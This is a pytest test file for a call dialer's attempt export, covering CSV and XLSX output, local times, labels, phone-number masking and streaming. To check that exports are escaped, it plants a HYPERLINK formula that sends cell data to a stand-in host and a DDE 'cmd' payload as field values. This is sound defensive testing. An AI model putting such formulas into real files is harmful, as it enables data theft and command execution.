"""``dialerd attempts``: one row per dial, local times, labels, masking, escaping, streaming."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Generator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import Engine, update

from dialerd.cli import cli
from dialerd.db.models import Attempt, Contact
from dialerd.reporting import attempts as export
from dialerd.reporting.xlsxfile import Column, Sheet, write_xlsx
from tests.integration import reportdata

_TIME_COLUMNS = ("planned_at", "started_at", "answered_at", "ended_at", "next_dial_at")


@pytest.fixture
def run(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    reportdata.load(engine)
    monkeypatch.setenv("DIALERD_DATABASE__URL", engine.url.render_as_string(hide_password=False))
    return CliRunner()


def _invoke(runner: CliRunner, *args: str) -> str:
    result = runner.invoke(cli, ["attempts", *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _hostile(engine: Engine) -> None:
    """Attempt 1 gets a formula for a contact id, a caller ID and a channel to show."""
    with engine.begin() as conn:
        conn.execute(
            update(Attempt)
            .where(Attempt.id == 1)
            .values(caller_id="057188880000", channel="PJSIP/13800138001@trunk-cm")
        )
        conn.execute(update(Contact).where(Contact.id == 1).values(external_id=HYPERLINK))


def test_json_rows(run: CliRunner) -> None:
    rows: list[dict[str, Any]] = json.loads(_invoke(run, "c1", "--format", "json"))
    assert [r["attempt_id"] for r in rows] == list(range(1, 13))  # c2's dial is not there
    first = rows[0]
    assert first["contact_external_id"] == "K1"
    assert first["number"] == "+86138****8001"
    # 01:00 UTC is 09:00 in Asia/Shanghai
    assert first["started_at"] == "2026-11-02T09:00:00+08:00"
    assert first["answered_at"] == "2026-11-02T09:00:10+08:00"
    assert first["ended_at"] == "2026-11-02T09:02:10+08:00"
    assert first["planned_at"] == "2026-11-02T08:59:58+08:00"
    assert (first["outcome"], first["bucket"], first["treatment"]) == (
        "completed",
        "retryable",
        "retry",
    )
    assert (first["outcome_zh"], first["bucket_zh"], first["treatment_zh"]) == (
        "已完成",
        "可重拨",
        "下轮重拨",
    )
    assert (first["position"], first["round"], first["try_no"]) == (1, 1, 1)
    assert first["signals"] == {"reason": 4}
    assert (first["hangup_cause"], first["dial_status"], first["disposition"]) == (
        16,
        "ANSWER",
        "completed",
    )
    assert set(first) == set(export.COLUMNS)
    failed = rows[-1]
    assert (failed["outcome"], failed["started_at"]) == ("internal_failure", None)


def test_csv_masks_escapes_and_filters_by_local_day(run: CliRunner, engine: Engine) -> None:
    with engine.begin() as conn:
        conn.execute(update(Attempt).where(Attempt.id == 2).values(amd_cause="=cmd|'/c calc'!A0"))
    out = _invoke(run, "c1", "--since", "2026-11-02", "--until", "2026-11-02")
    assert out.startswith("\ufeff")  # the BOM Excel needs to read UTF-8
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"), newline="")))
    assert list(rows[0]) == list(export.COLUMNS)
    # 11-02 local (UTC+8) is 11-01 16:00 .. 11-02 16:00 UTC: every 11-02 UTC dial qualifies
    assert [r["attempt_id"] for r in rows] == ["1", "2", "3", "5", "6", "9", "10", "12"]
    assert rows[0]["number"] == "'+86138****8001"  # E.164 starts with '+': escaped
    assert rows[1]["amd_cause"] == "'=cmd|'/c calc'!A0"
    assert rows[0]["signals"] == '{"reason": 4}'
    assert rows[-1]["started_at"] == ""


def test_csv_file_reads_back_in_excel_encoding(
    run: CliRunner, engine: Engine, tmp_path: Path
) -> None:
    _hostile(engine)
    target = tmp_path / "dials.csv"
    _invoke(run, "c1", "--output", str(target))
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    first = rows[0]
    assert next(iter(first)) == "attempt_id"  # the BOM is not part of the first header
    assert first["contact_external_id"] == "'" + HYPERLINK  # inert: text, not a formula
    # the channel is the dial string: the callee's number in it is masked like the number
    assert (first["caller_id"], first["channel"]) == ("057188880000", "PJSIP/13800**8001@trunk-cm")
    assert (first["outcome"], first["outcome_zh"]) == ("completed", "已完成")
    labels = {(r["outcome"], r["outcome_zh"]) for r in rows}
    assert {("vacant", "空号"), ("busy", "忙音/占线"), ("no_answer", "无人接听")} <= labels
    assert first["bucket_zh"] == "可重拨" and first["treatment_zh"] == "下轮重拨"


def test_xlsx_is_typed_and_inert(run: CliRunner, engine: Engine, tmp_path: Path) -> None:
    _hostile(engine)
    with engine.begin() as conn:
        conn.execute(update(Attempt).where(Attempt.id == 2).values(treatment="retry after 8:00:00"))
    target = tmp_path / "dials.xlsx"
    result = run.invoke(cli, ["attempts", "c1", "--format", "xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.output
    assert "12 dials written" in result.stderr
    ws = load_workbook(target).worksheets[0]
    header = [c.value for c in ws[1]]
    assert header[: len(export.COLUMNS)] == [
        f"{c} (Asia/Shanghai)" if c in _TIME_COLUMNS else c for c in export.COLUMNS
    ]
    rows = [dict(zip(header, (c for c in r), strict=True)) for r in ws.iter_rows(min_row=2)]
    assert len(rows) == 12
    first, second = rows[0], rows[1]
    # numbers as numbers, times as naive datetimes of the campaign's zone (09:00 at UTC+8)
    assert first["attempt_id"].value == 1 and first["attempt_id"].data_type == "n"
    assert first["hangup_cause"].value == 16 and first["round"].data_type == "n"
    started = first["started_at (Asia/Shanghai)"]
    assert started.value == datetime(2026, 11, 2, 9, 0, 0) and started.is_date
    assert rows[-1]["started_at (Asia/Shanghai)"].value is None  # never reached the PBX
    # a formula for a contact id stays text: a string cell with Excel's quote prefix
    ext = first["contact_external_id"]
    assert (ext.value, ext.data_type, ext.quotePrefix) == (HYPERLINK, "s", True)
    assert first["outcome_zh"].value == "已完成" and first["bucket_zh"].value == "可重拨"
    assert second["treatment_zh"].value == "下轮重拨(8:00:00后)"
    assert first["number"].value == "+86138****8001"
    assert first["caller_id"].value == "057188880000"
    assert ws.freeze_panes == "A2"
    widths = {k: ws.column_dimensions[k].width for k in ("A", "B", "J")}
    assert widths["J"] >= 19 and all(w >= 6 for w in widths.values())  # J: planned_at


def test_xlsx_needs_an_output_file(run: CliRunner) -> None:
    result = run.invoke(cli, ["attempts", "c1", "--format", "xlsx"])
    assert result.exit_code == 2 and "--output" in result.output


def test_show_numbers(run: CliRunner, engine: Engine) -> None:
    _hostile(engine)
    rows = json.loads(_invoke(run, "c1", "--format", "json", "--show-numbers"))
    assert rows[0]["number"] == "+8613800138001"
    assert rows[0]["channel"] == "PJSIP/13800138001@trunk-cm"


def test_rows_are_streamed(engine: Engine) -> None:
    reportdata.load(engine)
    rows = export.iter_attempts(engine, "c1")
    assert next(rows)["attempt_id"] == 1  # a generator: rows come one at a time
    assert isinstance(rows, Generator)
    rows.close()


def test_xlsx_rows_past_the_sheet_limit_go_on_to_the_next_sheet(tmp_path: Path) -> None:
    target = tmp_path / "many.xlsx"
    columns = [Column("n", "int"), Column("text")]
    rows = ([i, f"-{i}"] for i in range(12))
    assert write_xlsx(target, [Sheet("log", columns, rows)], sheet_rows=5) == 12
    wb = load_workbook(target)
    assert wb.sheetnames == ["log", "log 2", "log 3"]
    parts = [list(ws.iter_rows(values_only=True)) for ws in wb.worksheets]
    assert [len(p) for p in parts] == [6, 6, 3]  # each with its header row
    assert all(p[0] == ("n", "text") for p in parts)
    assert [r[0] for p in parts for r in p[1:]] == list(range(12))
    assert parts[2][-1] == (11, "-11")  # quote-prefixed text, not a negative number
